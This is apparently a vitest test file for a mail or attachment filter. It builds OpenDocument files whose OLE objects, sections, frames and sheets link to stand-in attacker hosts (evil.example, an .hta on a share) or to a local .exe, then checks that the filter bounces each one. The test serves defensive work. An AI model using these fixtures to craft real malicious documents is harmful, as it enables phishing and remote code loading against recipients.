import { zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import { flatOdf } from './slide-action-builders.js';
import { useLocalStack } from './stack.js';

// Attacker round 58, A58-5: objects an OpenDocument file links from outside it. Round 48 listed an OOXML document's
// external OLE objects, templates and frames by the file they link to (a link to a server refused whatever its name),
// but an OpenDocument file says the same with an `xlink:href` that is no package path (xmloff's IsPackageURL: a
// scheme, a leading `/` or `../`): a linked `draw:object` / `draw:object-ole` (LibreOffice loads it as the document
// opens, after its "update links" prompt), a `text:section-source`, a `draw:floating-frame` and a linked sheet
// (`table:table-source`). Each was delivered.
const kit = attackerKit(useLocalStack());
const ODT = 'application/vnd.oasis.opendocument.text';
const NS = [
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"',
  'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"',
  'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"',
  'xmlns:xlink="http://www.w3.org/1999/xlink"',
  'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"',
  'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"',
].join(' ');
const odt = (body: string) =>
  zipFile([
    { name: 'mimetype', data: ODT, method: 0 },
    {
      name: 'META-INF/manifest.xml',
      data: `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="${ODT}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
    },
    {
      name: 'content.xml',
      data: `<?xml version="1.0" encoding="UTF-8"?><office:document-content ${NS} office:version="1.3"><office:body><office:text>${body}</office:text></office:body></office:document-content>`,
    },
  ]);
const frame = (inner: string) =>
  `<text:p><draw:frame draw:name="Object1" svg:width="5cm" svg:height="5cm">${inner}</draw:frame></text:p>`;
const linked = (element: string, href: string) =>
  `<draw:${element} xlink:href="${href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`;
const verdictOf = async (name: string, file: Buffer) =>
  (await kit.inbound(attachedFile(name, file)[0])).verdict;

describe('A58-5: OpenDocument objects linked from outside the package', () => {
  const cases: Record<string, string> = {
    'a draw:object-ole linked to an .hta on a share': frame(
      linked('object-ole', 'file://evil.example/s/invoice.hta'),
    ),
    'a draw:object linked to a server': frame(linked('object', 'https://evil.example/doc')),
    'a section linked to a server': `<text:section text:name="S"><text:section-source xlink:href="https://evil.example/s" xlink:type="simple" text:filter-name="writer8"/></text:section>`,
    'a floating frame on a server': frame(linked('floating-frame', 'https://evil.example/page')),
    'a sheet linked to a server': `<table:table table:name="S"><table:table-source xlink:href="https://evil.example/q" table:filter-name="calc_HTML_WebQuery"/></table:table>`,
  };
  for (const [how, body] of Object.entries(cases))
    it(`refuses an .odt with ${how}`, async () => {
      expect(await verdictOf('invoice.odt', odt(body))).toBe('BOUNCE');
    });
  it('refuses a flat .fodt with a draw:object-ole linked to an .exe', async () => {
    const body = `<office:text>${frame(linked('object-ole', 'file:///C:/Users/Public/invoice.exe'))}</office:text>`;
    expect(await verdictOf('invoice.fodt', flatOdf(ODT, body))).toBe('BOUNCE');
  });
  it('(control) delivers embedded objects, a remote picture and a hyperlink', async () => {
    const body =
      frame(linked('object', './Object 1')) +
      frame(linked('object', 'Object 2')) +
      frame(linked('image', 'https://cdn.example/logo.png')) +
      '<text:p><text:a xlink:href="https://vendor.example/setup.exe">setup</text:a></text:p>';
    expect(await verdictOf('invoice.odt', odt(body))).toBe('DEFAULT');
  });
});
